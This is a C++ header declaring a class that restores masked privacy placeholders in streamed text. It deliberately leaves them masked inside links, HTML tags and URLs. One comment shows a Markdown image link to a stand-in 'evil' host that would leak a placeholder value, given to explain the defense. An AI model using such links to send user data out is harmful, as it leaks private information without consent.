#pragma once

#include <cstddef>
#include <optional>
#include <string>
#include <string_view>

#include "client/privacy/request_mask.h"

namespace edgedraft {

// A text that came with placeholders, as its reader is to see it: what they stand for in their
// place, but where a reader's program might send it on by itself. A hostile target would write
// ![](https://evil/?[NAME_001]). So within links, tags of HTML, and whatever contains "://"
// placeholders stay as they are, and so do those that were never given out.
class RestoredText {
 public:
  // Values of more bytes together stay placeholders: a hostile target repeats the longest.
  static constexpr std::size_t kValueBytesMax = 4u << 20;

  // `placeholders` outlives it. `in_json`: they stand within strings of JSON.
  explicit RestoredText(const Placeholders& placeholders, bool in_json = false)
      : placeholders_(placeholders), in_json_(in_json) {}

  struct Piece {
    std::string text;
    // Before it: of what was given out, only so many characters (code points) stay.
    std::optional<std::size_t> revise_from{};
  };
  // The next piece of the text. What may be the beginning of a placeholder is held back.
  Piece push(std::string_view masked);
  // Of the text so far, only so many characters stay; what follows comes by push().
  void revise(std::size_t characters);
  // No more follows: what was held back.
  Piece finish();

  // All that was given out.
  const std::string& text() const { return shown_; }

 private:
  // Where the text stands, as a reader's program would see it.
  struct Place {
    char before = '\n';
    bool in_tag = false;
    char quote = 0;               // around an attribute
    int target_depth = 0;         // parentheses of a Markdown link's target; 0: none
    bool target_angled = false;   // it is <...>
    bool in_definition = false;   // of a link: [name]: target
    bool line_begun = false;      // with more than blanks and marks of quotations and lists
    bool line_has_label = false;  // it begins with '['
    bool word_links = false;      // it contains "//", or begins with "www."
    std::string word_begin;       // its first characters

    void take(char c);
    bool may_be_sent_on() const {
      return in_tag || target_depth > 0 || in_definition || word_links;
    }
  };

  void read(bool whole);
  Piece take_piece();

  const Placeholders& placeholders_;
  bool in_json_;
  std::string masked_;    // all that came
  std::size_t read_ = 0;  // bytes of it
  std::string restored_;  // what they became
  std::size_t value_bytes_ = 0;
  bool revised_ = false;  // since something was given out
  std::string shown_;     // of it, what was given out
  Place place_;
};

// A whole text at once.
std::string restored(std::string_view masked, const Placeholders& placeholders,
                     bool in_json = false);

}  // namespace edgedraft
